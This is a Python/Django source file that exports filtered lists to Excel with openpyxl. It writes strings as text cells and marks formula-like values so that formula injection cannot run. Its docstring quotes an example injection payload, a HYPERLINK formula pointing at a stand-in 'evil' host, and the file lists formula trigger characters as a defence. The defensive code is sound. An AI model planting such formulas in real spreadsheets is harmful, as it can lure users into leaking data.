"""Excel export of a list with its current filters and the values as displayed (openpyxl, write-only).

Every string is written as a text cell, never a formula: what an enterprise types as its 项目名称
(``=HYPERLINK("http://evil…"&A1,"点我")``) is data, and must not run in the insurer's Excel (formula injection).
A string that Excel would read as the start of a formula (= + - @, tab, CR) also gets the cell's 以文本形式存储
mark (``quotePrefix``), so it stays text when someone edits the cell, or saves the sheet as CSV and opens it again.

Values keep their type, so a clerk can sum and sort them: a ``Decimal`` is a number shown with thousands separators
and two decimals (the unit belongs in the header: 保费（元）, 累积赔偿限额（万元）), a ``datetime`` a date and time in
Beijing time, a ``date`` a date. The header row is frozen, and each column is as wide as its header and the first
rows need (CJK characters count double), within bounds.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from itertools import chain, islice
from tempfile import SpooledTemporaryFile
from typing import Any

from django.http import FileResponse
from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Alignment, Font, PatternFill

MAX_EXPORT_ROWS = 100_000  # one sheet; a larger export is refused (``too_many_rows``)

_HEADER_FONT = Font(bold=True)
_HEADER_FILL = PatternFill("solid", fgColor="F5F7FA")
# What makes Excel (or a CSV import) read a cell as a formula or a command.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
MONEY_FORMAT = "#,##0.00"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm:ss"
DATE_FORMAT = "yyyy-mm-dd"
# Widths are measured on this many first rows (the sheet is streamed: its widths are written before its rows).
WIDTH_SAMPLE = 500
MIN_WIDTH, MAX_WIDTH = 8, 60


def xlsx_response(
    filename: str, headers: Sequence[str], rows: Iterable[Sequence[Any]], widths: Sequence[int] | None = None
) -> FileResponse:
    """The rows as an .xlsx download. ``widths``: the least width of each column (it grows to fit)."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(filename[:31])
    sheet.freeze_panes = "A2"
    rows = iter(rows)
    sample = [list(row) for row in islice(rows, WIDTH_SAMPLE)]
    for index, width in enumerate(_fitting_widths(headers, sample, widths), start=1):
        sheet.column_dimensions[_column_letter(index)].width = width
    header_cells = []
    for title in headers:
        cell = WriteOnlyCell(sheet, value=title)
        cell.font = _HEADER_FONT
        cell.fill = _HEADER_FILL
        cell.alignment = Alignment(horizontal="center")
        header_cells.append(cell)
    sheet.append(header_cells)
    for row in chain(sample, rows):
        sheet.append([_cell(sheet, value) for value in row])
    buffer = SpooledTemporaryFile(max_size=8 * 1024 * 1024)  # noqa: SIM115 - closed by FileResponse
    workbook.save(buffer)
    buffer.seek(0)
    stamp = timezone.localtime().strftime("%Y%m%d%H%M%S")
    name = f"{filename}_{stamp}.xlsx"
    return FileResponse(
        buffer,
        as_attachment=True,
        filename=name,
        content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )


def _cell(sheet: Any, value: Any) -> Any:
    """A string as a text cell (never a formula); money, dates and times as typed, formatted cells."""
    if isinstance(value, Decimal):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = MONEY_FORMAT
        return cell
    if isinstance(value, datetime):
        local = timezone.localtime(value) if timezone.is_aware(value) else value
        # Excel has no time zones; the list shows seconds, not microseconds.
        cell = WriteOnlyCell(sheet, value=local.replace(tzinfo=None, microsecond=0))
        cell.number_format = DATETIME_FORMAT
        return cell
    if isinstance(value, date):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = DATE_FORMAT
        return cell
    if not isinstance(value, str):
        return value
    # Control characters are not allowed in the file's XML (openpyxl raises): drop them rather than fail.
    text = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"  # openpyxl makes any "=…" a formula; a text cell is written as a string
    if text.startswith(FORMULA_TRIGGERS):
        cell.quotePrefix = True
    return cell


def _shown(value: Any) -> str:
    """Roughly what a cell shows, to measure it."""
    if value is None:
        return ""
    if isinstance(value, Decimal):
        return f"{value:,.2f}"
    if isinstance(value, datetime):
        return "2026-01-01 00:00:00"
    if isinstance(value, date):
        return "2026-01-01"
    return str(value)


def _text_width(text: str) -> int:
    """Excel's width units: a CJK (full-width) character takes two."""
    longest = max(text.splitlines() or [""], key=len)
    return sum(2 if ord(char) > 0x2E7F else 1 for char in longest)


def _fitting_widths(
    headers: Sequence[str], sample: list[list[Any]], least: Sequence[int] | None
) -> list[int]:
    widths = []
    for index, title in enumerate(headers):
        needed = max(
            [
                _text_width(str(title)),
                *(_text_width(_shown(row[index])) for row in sample if index < len(row)),
            ]
        )
        floor = least[index] if least and index < len(least) else MIN_WIDTH
        widths.append(min(MAX_WIDTH, max(floor, MIN_WIDTH, needed + 2)))
    return widths


def _column_letter(index: int) -> str:
    letters = ""
    while index:
        index, remainder = divmod(index - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters


def too_many_rows(queryset: Any) -> str | None:
    """The refusal of an export of more than MAX_EXPORT_ROWS rows, or None: every export asks before it builds
    its workbook, counting no further than one row past the limit (a bounded query whatever the table's size)."""
    if queryset.order_by()[: MAX_EXPORT_ROWS + 1].count() > MAX_EXPORT_ROWS:
        return f"导出数据超过{MAX_EXPORT_ROWS}条，请缩小查询范围后再导出"
    return None
